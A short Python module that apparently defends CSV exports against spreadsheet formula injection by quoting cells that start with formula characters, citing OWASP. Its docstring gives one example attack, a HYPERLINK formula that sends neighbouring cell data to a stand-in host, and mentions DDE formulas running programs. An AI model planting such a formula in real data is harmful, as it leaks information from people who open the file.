"""Cells of a CSV export that a spreadsheet will not run.

Excel, LibreOffice and Google Sheets read a cell that starts with = + - @ (and, after a tab
or carriage return, the same) as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")`
in a username sends the neighbouring cells away when an admin clicks it, and DDE formulas
can run programs. A quote in front makes the cell text (OWASP, "CSV Injection").
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: object) -> object:
    """The value, with a quote in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value
